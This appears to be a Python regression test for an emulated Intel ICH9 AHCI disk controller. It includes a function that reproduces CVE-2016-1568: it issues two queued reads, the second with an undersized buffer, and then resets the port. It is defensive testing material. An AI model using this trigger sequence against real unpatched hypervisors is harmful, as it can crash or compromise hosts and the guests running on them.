# SPDX-License-Identifier: GPL-2.0
"""Intel's ICH9 AHCI, with a disk"""

import struct

DEVICES = ("ahci", "ide-hd,bus=dut.0,drive=disk")
BACKENDS = ("-blockdev driver=null-co,node-name=disk,size=1048576,read-zeroes=on",)
# VS, which version of AHCI it is
PROBE = 5, 0x10

GLOBAL, PORT = 0x04, 0x100
LIST, FIS, COMMAND, CONTROL, ACTIVE, ISSUE = (PORT + register for register in
                                              (0x00, 0x08, 0x18, 0x2c, 0x34, 0x38))
ENABLE = 1 << 31
RECEIVE, START = 1 << 4, 1
FIS_WORDS = 5
TO_DEVICE, IS_COMMAND, READ_QUEUED, LBA = 0x27, 0x80, 0x60, 0x40
SECTOR = 512


def start(guest):
    """Returns the address of the list of commands."""
    bar = guest.device.bars[5]
    commands = guest.alloc(1024)
    bar.write(GLOBAL, ENABLE)
    for register, place in ((LIST, commands), (FIS, guest.alloc(256))):
        bar.write(register, place)
        bar.write(register + 4, 0)
    bar.write(COMMAND, RECEIVE)
    bar.write(COMMAND, RECEIVE | START)
    return commands


def read_queued(guest, commands, room):
    """Reads one sector, by a queued command, to memory of @room bytes."""
    bar = guest.device.bars[5]
    fis = struct.pack("<BBBBBBBB12x", TO_DEVICE, IS_COMMAND, READ_QUEUED, 1, 0, 0, 0, LBA)
    table = guest.memory(fis.ljust(0x80, b"\0") +
                         struct.pack("<QII", guest.alloc(SECTOR), 0, room - 1))
    guest.put(commands, struct.pack("<HHIQ", FIS_WORDS, 1, 0, table))
    bar.write(ACTIVE, 1)
    bar.write(ISSUE, 1)
    guest.wait(0.05)


def cve_2016_1568(guest):
    """A queued command succeeds, the next one has too little memory; then the port is
    reset, which cancels what is under way."""
    bar = guest.device.bars[5]
    commands = start(guest)
    read_queued(guest, commands, SECTOR)
    read_queued(guest, commands, 2)
    bar.write(CONTROL, 1)
    bar.write(CONTROL, 0)
